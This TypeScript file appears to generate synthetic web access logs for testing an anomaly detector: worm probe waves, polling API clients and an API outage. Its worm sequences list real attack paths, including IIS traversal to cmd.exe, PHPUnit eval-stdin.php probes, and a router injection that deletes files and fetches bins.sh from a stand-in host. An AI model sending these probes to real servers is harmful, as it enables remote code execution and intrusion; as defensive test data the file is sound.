/**
 * The web side of a public host: worm waves (hundreds of addresses sending one short probe
 * sequence, days apart), an outage that answers ordinary API clients with 5xx, and the API
 * clients themselves, polling all day (so the outage hits known clients).
 */
import type { Prng } from '../../detect/behaviour/prng';
import { BROWSER_AGENTS } from '../catalog';
import type { ScenarioRecorder } from '../recorder';
import { type InternetTruth, type PlantContext, truthOf } from './truth';

const MIN = 60_000;
const HOUR = 60 * MIN;
const DAY = 24 * HOUR;

/** Probe sequences of worms that still roam: each wave sends one of them, in order. */
const WORM_SEQUENCES: string[][] = [
  [
    '/scripts/root.exe?/c+dir',
    '/MSADC/root.exe?/c+dir',
    '/c/winnt/system32/cmd.exe?/c+dir',
    '/d/winnt/system32/cmd.exe?/c+dir',
    '/scripts/..%5c../winnt/system32/cmd.exe?/c+dir',
    '/_vti_bin/..%5c../..%5c../..%5c../winnt/system32/cmd.exe?/c+dir',
    '/_mem_bin/..%5c../..%5c../..%5c../winnt/system32/cmd.exe?/c+dir',
    '/msadc/..%5c../..%5c../..%5c/..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir',
    '/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir',
    '/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir',
    '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir',
    '/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir',
    '/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir',
    '/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir',
    '/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir',
    '/scripts/..%252f../winnt/system32/cmd.exe?/c+dir',
  ],
  [
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/vendor/phpunit/src/Util/PHP/eval-stdin.php',
    '/phpunit/src/Util/PHP/eval-stdin.php',
    '/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/www/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/ws/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/yii/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/zend/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/cms/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/api/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  ],
  [
    '/boaform/admin/formLogin?username=admin&psd=admin',
    '/HNAP1/',
    '/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/bins.sh',
    '/cgi-bin/luci/;stok=/locale',
    '/GponForm/diag_Form?images/',
  ],
];

/**
 * A worm wave: `bots` addresses each sending one sequence once (a few twice), spread over
 * `days`. With `hit`, one bot's first request is answered 200: the probe may have worked.
 */
export function wormWave(ctx: PlantContext, o: { bots: number; days: number; sequence: number; hit: boolean }): InternetTruth[] {
  const { rec, rng, ips, start } = ctx;
  const seq = WORM_SEQUENCES[o.sequence % WORM_SEQUENCES.length]!;
  const ua = rng.chance(0.5)
    ? '-'
    : rng.pick(['Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)', 'Mozilla/5.0 zgrab/0.x', 'python-requests/2.6.0']);
  const out: InternetTruth[] = [];
  for (let b = 0; b < o.bots; b++) {
    const ip = ips.public();
    let first = Infinity;
    let last = -Infinity;
    for (let rep = rng.chance(0.15) ? 2 : 1; rep > 0; rep--) {
      let t = start + rng.range(0, o.days * DAY - HOUR);
      // Some bots drop a request or two: their sets are near, not equal.
      const paths = seq.filter(() => !rng.chance(0.08));
      paths.forEach((path, i) => {
        const ok = o.hit && b === 0 && i === 0;
        rec.access(t, { ip, method: 'GET', path, status: ok ? 200 : 404, bytes: ok ? 1432 : 209, userAgent: ua });
        first = Math.min(first, t);
        last = Math.max(last, t);
        t += rng.int(100, 1500);
      });
    }
    const hit = o.hit && b === 0;
    out.push(
      truthOf(
        hit ? 'exploit_hit' : 'worm',
        'scanner',
        ip,
        first,
        last,
        `worm wave ${o.sequence + 1}${hit ? ': answered 200' : ''}`,
        `worm-${o.sequence + 1}`,
      ),
    );
  }
  return out;
}

export interface ApiClients {
  ips: string[];
  agents: string[];
}

/** Ordinary API clients (a mobile app) polling /api/v1/* all day. */
export function apiClients(ctx: PlantContext, o: { clients: number; days: number }): ApiClients {
  const { rec, rng, ips, start } = ctx;
  const clients = Array.from({ length: o.clients }, () => ips.public());
  const agents = clients.map(() => `ShopApp/3.${rng.int(0, 9)} (${rng.pick(['iOS 17', 'Android 14', 'Android 13'])})`);
  clients.forEach((ip, i) => {
    for (let t = start + rng.range(0, 6 * HOUR); t < start + o.days * DAY; t += rng.exp(3 * HOUR))
      pollOnce(rec, rng, ip, agents[i]!, t, 200);
  });
  return { ips: clients, agents };
}

function pollOnce(rec: ScenarioRecorder, rng: Prng, ip: string, ua: string, t: number, status: number): void {
  const resources = ['/api/v1/orders', '/api/v1/cart', `/api/v1/items/${rng.int(1000, 1080)}`, '/api/v1/profile'];
  for (let k = rng.int(1, 3); k > 0; k--) {
    rec.access(t, {
      ip,
      method: 'GET',
      path: rng.pick(resources),
      status,
      bytes: status === 200 ? rng.int(300, 4000) : 166,
      userAgent: ua,
    });
    t += rng.int(200, 2000);
  }
}

/** The API answers 502/503/504 for `minutes`: every client that polls then gets errors. */
export function outage(ctx: PlantContext, clients: ApiClients, o: { minutes: number }): InternetTruth[] {
  const { rec, rng, start } = ctx;
  const end = start + o.minutes * MIN;
  const hit = rng.sample(
    clients.ips.map((ip, i) => [ip, clients.agents[i]!] as const),
    Math.max(20, Math.floor(clients.ips.length * 0.6)),
  );
  for (const [ip, ua] of hit) {
    // Clients retry while it fails.
    for (let t = start + rng.range(0, 2 * MIN); t < end; t += rng.range(30_000, 3 * MIN))
      pollOnce(rec, rng, ip, ua, t, rng.pick([502, 502, 503, 504]));
  }
  // A few visitors still get through to other paths meanwhile.
  for (let k = 0; k < 20; k++)
    rec.access(start + rng.range(0, o.minutes * MIN), {
      ip: rng.pick(clients.ips),
      path: '/',
      status: 200,
      userAgent: rng.pick(BROWSER_AGENTS),
    });
  return [
    truthOf(
      'outage',
      'app_error',
      '/api/v1/*',
      start,
      end,
      `API outage for ${o.minutes} minutes, ${hit.length} clients`,
      'outage',
      'target',
    ),
  ];
}
